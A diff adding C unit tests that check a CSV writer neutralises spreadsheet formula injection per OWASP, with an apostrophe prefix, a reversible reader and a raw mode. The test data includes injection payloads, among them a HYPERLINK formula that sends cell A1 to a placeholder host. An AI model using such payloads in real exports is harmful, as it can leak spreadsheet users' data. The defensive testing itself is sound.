@@ -669,8 +669,65 @@ static void test_csvio__writer_quotes_what_needs_it(void **state)
 			    "a,b,c\r\n"
 			    "plain,\"a,b\",\"say \"\"hi\"\"\"\r\n"
 			    "\"cr\rlf\",\"line\nbreak\",\r\n"
-			    "\" lead\",\"trail \",\"\ttab\"\r\n"
+			    "\" lead\",\"trail \",\"'\ttab\"\r\n"
 			    "in side,\"\"\"\",\r\n");
+	free(text);
+	free(path);
+}
+
+/* OWASP's CSV injection rule: what a spreadsheet would run gets an
+ * apostrophe; numbers, and text that merely contains the characters, do
+ * not. */
+static const char *const formulas[][3] = {
+	{ "=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1+2", "-2+3" },
+	{ "@SUM(A1)", "\tcmd", "\rcmd" },
+	{ "-42", "+1.5", "-1e5" },
+	{ "'=already", "''", "'plain" },
+	{ "a=b", "-", "'" },
+};
+
+static void test_csvio__writer_neutralises_formulas(void **state)
+{
+	struct err e = ERR_INIT;
+	struct texts t;
+	char *path = write_texts("formulas.csv", formulas,
+				 ARRAY_SIZE(formulas), NULL);
+	char *text = test_read(path);
+
+	(void)state;
+	assert_string_equal(text,
+			    "a,b,c\r\n"
+			    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\","
+			    "'+1+2,'-2+3\r\n"
+			    "'@SUM(A1),\"'\tcmd\",\"'\rcmd\"\r\n"
+			    "-42,+1.5,-1e5\r\n"
+			    "''=already,''','plain\r\n"
+			    "a=b,'-,'\r\n");
+	/* the reader takes the apostrophe off: every value comes back */
+	assert_int_equal(read_texts(path, &t, NULL, &e), 0);
+	assert_int_equal(t.n, ARRAY_SIZE(formulas));
+	for (size_t i = 0; i < t.n; i++)
+		for (int c = 0; c < 3; c++)
+			assert_string_equal(t.v[i][c], formulas[i][c]);
+	texts_free(&t);
+	free(text);
+	free(path);
+}
+
+static void test_csvio__writer_raw_writes_cells_as_they_are(void **state)
+{
+	char *path, *text;
+
+	(void)state;
+	csv_set_raw(true);
+	path = write_texts("raw.csv", formulas, 2, NULL);
+	csv_set_raw(false);
+	text = test_read(path);
+	assert_string_equal(text,
+			    "a,b,c\r\n"
+			    "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\","
+			    "+1+2,-2+3\r\n"
+			    "@SUM(A1),\"\tcmd\",\"\rcmd\"\r\n");
 	free(text);
 	free(path);
 }
@@ -903,6 +960,9 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_csvio__reads_typed_rows),
+		cmocka_unit_test(test_csvio__writer_neutralises_formulas),
+		cmocka_unit_test(
+			test_csvio__writer_raw_writes_cells_as_they_are),
 		cmocka_unit_test(
 			test_csvio__columns_in_any_order_extra_ignored),
 		cmocka_unit_test(
